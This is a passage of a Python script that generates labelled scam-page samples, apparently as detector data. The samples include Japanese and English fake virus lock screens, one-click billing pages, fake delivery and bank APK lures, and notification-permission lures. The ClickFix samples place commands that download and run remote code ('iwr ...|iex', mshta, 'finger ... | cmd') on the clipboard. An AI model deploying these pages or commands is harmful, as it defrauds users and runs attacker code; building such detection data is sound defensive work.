        "サポートセンター：050-0000-6621", BEEP_JS + speak_js("アダルトサイトの閲覧が検出されました。パソコンはロックされています。", "ja-JP"),
        "アダルト閲覧を口実にした偽警告（羞恥心につけこむ型）", A_DLIS)
jlocker("ja-lock-virusbuster", "https://vb-koushin.example.org/", "ウイルスバスター 有効期限切れ", "ウイルスバスター クラウド",
        "<h2>ウイルスバスターの有効期限が切れています</h2><p>お使いのPCは保護されていません。5件のウイルスが検出されました。</p><p>今すぐ更新してください。</p>",
        "更新サポート：0120-000-455", "", "偽ウイルスバスター期限切れ（電話誘導）", A_HIRO, cat="fake-alert")
jlocker("ja-lock-norton", "https://norton-jp.example.net/scan", "ノートン - ウイルス検出", "ノートン 360",
        "<h2>お使いのPCは5つのウイルスに感染しています！</h2><p>ノートンのサブスクリプションは本日期限切れになりました。</p>",
        "", "", "偽ノートン スキャン（更新ページへ誘導）", A_HIRO, cat="fake-alert")
jlocker("ja-lock-mcafee", "https://mcafee-jp.example.com/", "マカフィー | ウイルス検出", "マカフィー リブセーフ",
        "<h2>クイックスキャン完了：3件の脅威</h2><p>お使いのPCは危険にさらされています。サブスクリプションの有効期限が切れています。</p><a href='https://offer.example.com/jp' style='background:#c00;color:#fff;padding:8px'>続行</a>",
        "", "", "偽マカフィー スキャン（日本語）", A_HIRO, cat="fake-alert")
jlocker("ja-lock-iphone", "https://iphone-hogo.example.com/", "iPhone がウイルスに感染しています", "Apple セキュリティ",
        "<h2>お使いの iPhone は13個のウイルスにより深刻な損傷を受けています！</h2><p>今すぐ削除しないと、SIMカード、写真、連絡先が破損します。</p><p>残り時間：<span id='t'>2:59</span></p>",
        "", "var s=179;setInterval(function(){s--;document.getElementById('t').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2);},1000);"
        + "setTimeout(function(){location.href='https://apps.example.com/cleaner';},15000);",
        "iPhone ウイルス感染の偽警告（カウントダウン→アプリへ）", A_DLIS, cat="fake-alert")
jlocker("ja-lock-police", "https://keisatsu-lock.example.net/", "警察庁 - コンピューターはロックされました", "警察庁 サイバー犯罪対策",
        "<h2>お使いのコンピューターは違法行為のためロックされました</h2><p>著作権法違反および違法画像の閲覧が確認されました。罰金 30,000円 を24時間以内に支払わない場合、刑事手続きに移行します。</p><p>支払い方法：コンビニで電子マネー（Apple Gift Card）を購入し、番号を入力してください。</p><input placeholder='カード番号'>",
        "", BEEP_JS, "警察を装ったロック画面・電子マネー罰金（ランサム型）", A_DLIS)
jlocker("ja-lock-edge-block", "https://edge-block.example.org/", "Microsoft Edge - このサイトはブロックされました", "Microsoft Edge",
        "<h2>このページはブロックされました</h2><p>Edge はお使いのコンピューターで危険なアクティビティを検出しました。個人情報・クレジットカード情報が盗まれる危険があります。</p>",
        "技術サポートに連絡：０５０－００００－３３９８", alert_loop_js("警告！お使いのコンピューターはウイルスに感染しています。050-0000-3398 に電話してください。"),
        "Edge ブロック画面を装う偽警告（全角番号・alertループ）", A_HIRO, cat="phone-lure")
jlocker("ja-lock-fullwidth", "https://pc-anzen.example.com/", "Ｗｉｎｄｏｗｓ セキュリティ", "Ｗｉｎｄｏｗｓ セキュリティ",
        "<h2>ウイルスが検出されました</h2><p>お使いのＰＣはハッキングされています。</p>",
        "お電話ください　０１２０‐０００‐５８２", BEEP_JS, "全角表記の Windows と電話番号（表記ゆれ）", A_KYOTO)
jlocker("ja-lock-print", "https://error-jp.example.net/", "システムエラー", "Windows",
        "<h2>重大なエラーが発生しました</h2><p>お使いのパソコンの個人情報が流出しています。</p>",
        "サポート：050-0000-7711", "setInterval(function(){try{window.print();}catch(e){}},3000);", "印刷ダイアログ連発型", A_DDF)
jlocker("ja-lock-bsod", "https://bsod-jp.example.com/", "Windows", "",
        "<h1 style='font-size:80px;margin:0'>:(</h1><p>PC で問題が発生したため、再起動する必要があります。</p><p>停止コード：CRITICAL_PROCESS_DIED</p>",
        "マイクロソフトテクニカルサポート：0120-000-936", BEEP_JS, "偽ブルースクリーン（日本語）", A_DDF)
jlocker("ja-lock-remote", "https://enkaku-support.example.net/", "Windows サポート - 遠隔サポート", "Windows サポート",
        "<h2>ウイルス除去には専門スタッフによる遠隔サポートが必要です</h2><p>サポートに電話し、指示に従って AnyDesk をインストールしてください。接続番号をスタッフにお伝えください。</p><a href='AnyDesk.exe'>AnyDesk をダウンロード</a>",
        "サポート窓口：050-0000-2286", BEEP_JS, "遠隔操作ソフト導入を促すサポート詐欺", A_HIRO, cat="phone-lure")
jlocker("ja-lock-battery", "https://android-check.example.com/", "警告：バッテリー損傷", "Google",
        "<h2>お使いのスマートフォンのバッテリーがウイルスにより損傷しています（47.3%）</h2><p>今すぐ修復アプリをインストールしてください。</p><a href='cleaner.apk'>修復する</a>",
        "", "navigator.vibrate&&navigator.vibrate([500,200,500,200,500]);", "スマホ向け偽警告: バッテリー損傷、振動、APK", A_DLIS, cat="fake-alert")

# ============================================================ ワンクリック請求 (ja)
OC_CSS = "body{font-family:sans-serif;background:#000;color:#fff;text-align:center}.box{border:2px solid #f00;margin:30px auto;width:520px;padding:16px;text-align:left}.red{color:#f33;font-size:22px}"
OC_JS = """document.getElementById('ua').textContent=navigator.userAgent;
document.getElementById('dt').textContent=new Date().toLocaleString('ja-JP');
var s=%d;setInterval(function(){s--;document.getElementById('t').textContent=Math.floor(s/3600)+'時間'+Math.floor(s%%3600/60)+'分'+(s%%60)+'秒';},1000);
window.onbeforeunload=function(){return '';};"""


def oneclick(slug, url, title, head, amount, extra, secs, note, repo, phone="050-0000-9102"):
    body = ('<h1 class="red">%s</h1><div class="box"><p>ご利用料金：<b>%s</b>（税込）</p><p>お支払い期限：残り <span id="t"></span></p>'
            '<p>あなたの端末情報を記録しました。</p><p>IPアドレス：198.51.100.%d<br>端末情報：<span id="ua"></span><br>登録日時：<span id="dt"></span><br>会員ID：%s</p>%s'
            '<p>期限内にお支払いが確認できない場合、延滞料金を加算のうえ法的措置に移行します。</p><p>退会・誤操作の方はこちら：<b>%s</b>（受付 10:00〜20:00）</p></div>'
            % (head, amount, len(slug) * 3, "MB-" + str(10000 + len(url) * 37), extra, phone))
    S(slug, "block", url, "one-click-billing", "ja", note, repo, bare("ja", title, body, OC_CSS, OC_JS % secs))


oneclick("ja-oc-douga", "https://hd-douga.example.com/play/12", "会員登録完了", "会員登録が完了しました", "99,800円", "", 259200, "動画再生で『会員登録完了』、端末情報・IP表示、退会電話", A_OC1)
oneclick("ja-oc-age", "https://adult-zone.example.net/enter", "ご入会ありがとうございます", "ご入会ありがとうございます", "120,000円", "<p>※年齢確認ボタンを押した時点で利用規約に同意したものとみなします。</p>", 172800, "年齢認証ボタンで入会扱い", A_OC2)
oneclick("ja-oc-deai", "https://deai-match.example.org/reg", "有料会員登録完了", "有料会員への登録が完了しました", "59,800円", "<p>お支払いはコンビニ払い・銀行振込のみ</p>", 86400, "出会い系 有料会員 ワンクリック", A_OC3)
oneclick("ja-oc-zeroclick", "https://news-matome.example.com/r?x=1", "登録完了", "ご登録ありがとうございます。登録が完了しました", "89,000円", "<p>ページを開いた時点で自動登録されました。</p>", 10800, "ゼロクリック（ページを開いただけで登録完了表示）", A_OC3)
oneclick("ja-oc-entai", "https://member-seikyu.example.net/tokusoku", "【重要】未納料金のお知らせ", "【最終通告】未納料金のお支払いについて", "198,000円（延滞金含む）", "<p>本日中にご連絡がない場合、勤務先・ご家族への調査を開始します。</p>", 7200, "督促・最終通告型（延滞金・法的措置・勤務先調査）", A_OC2)
oneclick("ja-oc-sms", "https://yuryo-contents.example.com/sms/889", "有料動画サイト 未納料金", "有料動画サイトの利用料金が未納となっております", "312,000円", "<p>本日ご連絡なき場合、法的手続きに移行します。</p>", 14400, "SMS 架空請求のランディング", A_OC1, phone="03-0000-4471")
oneclick("ja-oc-smartphone", "https://sp-adult.example.net/join", "入会完了", "入会手続きが完了しました", "78,000円", "<p>ご利用機種：<b>iPhone</b>　キャリア：docomo</p>", 172800, "スマホ版: 機種・キャリア表示", A_OC3)
oneclick("ja-oc-shutter", "https://douga-free.example.org/view", "登録完了", "登録完了【カメラのシャッター音】", "149,800円", "<p>あなたの画像を取得しました。</p>", 86400, "シャッター音を鳴らし『画像を取得しました』と脅す型", A_OC2)
oneclick("ja-oc-virus-cleanup", "https://pc-seikyu.example.com/", "ウイルス除去費用", "ウイルス除去サービスのご利用料金", "49,800円", "<p>お使いのPCにウイルスが検出されたため、除去サービスを自動で適用しました。</p>", 43200, "ウイルス除去費用名目のワンクリック", A_OC1)
oneclick("ja-oc-popup", "https://movie-r18.example.net/", "登録完了", "ご登録が完了いたしました！", "95,000円", "<p>解約をご希望の場合は24時間以内にお電話ください。</p>", 86400, "解約電話を促す型", A_OC3)

# ============================================================ 宅配・APK (ja)
apk("ja-apk-sagawa", "ja", "https://sagawa-exp.example.com/", "佐川急便 - 不在通知", "佐川急便",
    ["<p>お客様宛にお荷物のお届けにあがりましたが、不在のため持ち帰りました。下記よりアプリをインストールして再配達をお申し込みください。</p><p>「提供元不明のアプリ」の許可が必要です。</p>", "アプリをダウンロード"],
    "sagawa.apk", "宅配不在通知 SMS → 偽佐川サイト → APK", A_OGI)
apk("ja-apk-yamato", "ja", "https://kuroneko-redelivery.example.net/", "ヤマト運輸 - お荷物お問い合わせ", "ヤマト運輸",
    ["<p>お荷物の住所が不完全なため配達できませんでした。24時間以内に専用アプリで住所を確認してください。</p>", "専用アプリをインストール"],
    "yamato.apk", "偽ヤマト 不在通知 APK", A_AICHI)
apk("ja-apk-yuubin", "ja", "https://post-jp.example.org/fuzai", "日本郵便 不在通知", "日本郵便",
    ["<p>【日本郵便】お荷物を預かっております。配送料金未納のため保管中です。アプリで確認してください。</p>", "確認アプリ"],
    "japanpost.apk", "偽日本郵便 APK", A_AICHI)
apk("ja-apk-docomo-security", "ja", "https://docomo-anshin.example.com/", "ドコモ セキュリティ", "NTTドコモ",
    ["<p>お使いのスマートフォンがウイルスに感染しています。ドコモ公式セキュリティアプリを今すぐインストールしてください。</p>", "インストール"],
    "docomo_security.apk", "偽キャリア セキュリティアプリ APK", A_SB)
apk("ja-apk-bank", "ja", "https://bank-anzen.example.net/", "【重要】セキュリティ強化のお願い", "○○銀行",
    ["<p>不正送金対策のため、新しいセキュリティアプリの導入が必要です。導入されない場合、お取引を制限します。</p>", "アプリを導入する"],
    "bank_secure.apk", "偽銀行セキュリティアプリ APK", A_SB)
apk("ja-apk-chrome", "ja", "https://chrome-kousin.example.com/", "Chrome の更新", "Google Chrome",
    ["<p>お使いの Chrome は古いため、このページを表示できません。更新してください。</p>", "Chrome を更新"], "chrome.apk", "Chrome に似せた偽アプリ APK（ソフトバンク注意喚起の事例）", A_SB)

# ============================================================ 通知許可 (ja)
pushlure("ja-push-robot", "ja", "https://ab12.example.com/?s=3", "「許可」を押してください", "ロボットでない場合は<b>「許可」</b>をクリックしてください", "", "「ロボットでない場合は許可」通知ルアー", A_PUSH1)
pushlure("ja-push-video", "ja", "https://douga-now.example.net/v/2", "動画", "動画を再生するには<b>「許可」</b>を押してください", "", "動画再生を口実にした通知許可", A_PUSH2)
pushlure("ja-push-age", "ja", "https://otona.example.org/", "年齢確認", "18歳以上の方は<b>「許可」</b>をクリック", "", "年齢確認を口実にした通知許可", A_PUSH1)
pushlure("ja-push-dl", "ja", "https://dl-file.example.com/", "ダウンロード準備完了", "ファイルの準備ができました", "<b>「許可」</b>を押してダウンロード", "ダウンロード準備完了を装う通知許可", A_PUSH2)
pushlure("ja-push-virus", "ja", "https://virus-check.example.net/", "ウイルスチェック", "お使いの端末がウイルスに感染している可能性があります", "<b>「許可」</b>を押して保護を有効にしてください", "ウイルス警告付き通知許可", A_PUSH3)
pushlure("ja-push-prize", "ja", "https://atari.example.org/", "おめでとうございます", "あなたが当選しました！", "<b>「許可」</b>を押して賞品を受け取る", "当選を口実にした通知許可", A_PUSH3)

# ============================================================ カメラ (ja)
camlure("ja-cam-honnin", "ja", "https://kyc-check.example.com/", "本人確認", "オンライン本人確認", "口座凍結を解除するため、カメラで顔を撮影してください。", "カメラを起動", "口座凍結解除を口実にしたカメラ撮影ルアー", "techchipnet/CamPhish")
camlure("ja-cam-mensetsu", "ja", "https://baito-mensetsu.example.net/", "オンライン面接", "オンライン面接 カメラチェック", "高収入アルバイトの面接です。カメラの確認を行います。", "カメラをチェック", "闇バイト面接を装うカメラルアー", "techchipnet/CamPhish")

# ============================================================ more 2025-26 variants
CLIPITEM_JS = """document.getElementById('chk').addEventListener('click',function(){
 var cmd=%s;
 navigator.clipboard.write([new ClipboardItem({'text/plain':new Blob([cmd],{type:'text/plain'})})]);
 document.getElementById('steps').style.display='block';});"""


def cf_item(slug, lang, url, title, head, steps_html, cmd, note, repo):
    body = ('<div class="box"><p>%s</p><label><input type="checkbox" id="chk"> %s</label></div><div id="steps"><div>%s</div></div>' % (head[0], head[1], steps_html))
    S(slug, "block", url, "clickfix", lang, note, repo, bare(lang, title, body, CF_CSS, CLIPITEM_JS % json.dumps(cmd)))


cf_item("en-cf-clipboarditem", "en", "https://recipes-daily.example.com/soup", "Verify you are human", ("Checking your browser before accessing recipes-daily.example.com", "I'm not a robot"),
        STEPS_R_EN, 'conhost --headless powershell -w h -c "iwr https://r.example.invalid/s|iex"', "ClickFix writing via ClipboardItem (bypasses writeText hooks), conhost --headless", A_CF2)
cf_item("en-cf-github-alert", "en", "https://github-security.example.org/alert/CVE-2026-1001", "GitHub Security Alert", ("<b>Security alert</b>: a vulnerability was found in your repository. Verify you are human to view the fix.", "Verify"),
        STEPS_R_EN, 'powershell -w h -c "iex(iwr https://gh-fix.example.invalid/p).Content"', "Fake GitHub security alert lure ending in Run-box paste", A_CF1)
cf_item("ja-cf-hotel", "ja", "https://yoyaku-kakunin.example.com/guest/33", "予約の確認", ("ゲストからのクレームがあります。内容を確認するにはロボットでないことを確認してください。", "確認する"),
        STEPS_R_JA, 'mshta https://hotel-jp.example.invalid/g.hta # 予約確認ID 55102', "宿泊施設向け 予約サイト偽装 ClickFix", A_CF1)
cf_item("ja-cf-finger", "ja", "https://kakunin.example.net/", "人間であることを確認", ("人間であることを確認してください", "確認"),
        STEPS_R_JA, 'cmd /c "finger verify@203.0.113.9 | cmd"', "finger コマンドを使う ClickFix 変種", A_FILEFIX)

CHAT = "<div style='position:fixed;right:10px;bottom:60px;width:260px;background:#fff;color:#222;border:1px solid #999;padding:8px'><b>%s</b><p>%s</p><input placeholder='...'></div>"
locker("en-lock-defender-chat", "en", "https://ms-helpdesk.example.com/live", "Microsoft Support - Live", "Windows Security",
       "<h2>Threat blocked: Trojan:Win32/Emotet</h2><p>Your firewall was disabled. Hackers may access your bank accounts.</p>" + CHAT % ("Microsoft Support Agent", "Hello, I am a certified technician. Please call us now so we can secure your PC."),
       "Toll Free: 1-800-555-0129", BEEP_JS, "Defender locker with fake live-chat agent widget", A_TSS)
jlocker("ja-lock-chat", "https://ms-sapo.example.net/chat", "マイクロソフト サポート チャット", "Windows セキュリティ",
        "<h2>脅威がブロックされました</h2><p>ファイアウォールが無効化されています。</p>" + CHAT % ("サポート担当", "こんにちは。認定技術者です。すぐにお電話ください。"),
        "無料通話：0120-000-637", BEEP_JS + speak_js(VOICE_JA, "ja-JP"), "偽チャット窓口付きサポート詐欺（音声）", A_KYOTO)

S("en-oc-subscription", "block", "https://premium-videos.example.com/activated", "one-click-billing", "en",
  "English one-click style 'membership activated' bill with device info and cancel phone", A_OC3,
  bare("en", "Membership activated", "<h1>Your premium membership has been activated</h1><p>Amount due: <b>$349.00</b>. Your device: <span id='ua'></span>. IP: 198.51.100.77. Pay within 48 hours to avoid collection fees and legal action.</p><p>Cancel by calling 1-888-555-0107.</p>", OC_CSS,
       "document.getElementById('ua').textContent=navigator.userAgent;window.onbeforeunload=function(){return '';};"))
pushlure("en-push-captcha", "en", "https://captcha-check.example.net/", "Verify", "Press <b>Allow</b> to verify that you are not a robot", "reCAPTCHA", "Fake CAPTCHA that asks for notification permission", A_PUSH2)
apk("ja-apk-mynumber", "ja", "https://mynumber-point.example.com/", "マイナポイント 申請", "マイナポイント事務局",
    ["<p>未申請のマイナポイント 20,000円分 の受付期限は本日までです。専用アプリで申請してください。</p>", "アプリで申請"], "mynapoint.apk", "マイナポイントを装う APK ルアー", A_AICHI)
pushlure("ja-push-captcha", "ja", "https://ninsho.example.org/", "認証", "<b>「許可」</b>を押して、ロボットでないことを確認してください", "reCAPTCHA", "偽CAPTCHA型の通知許可（日本語）", A_PUSH1)
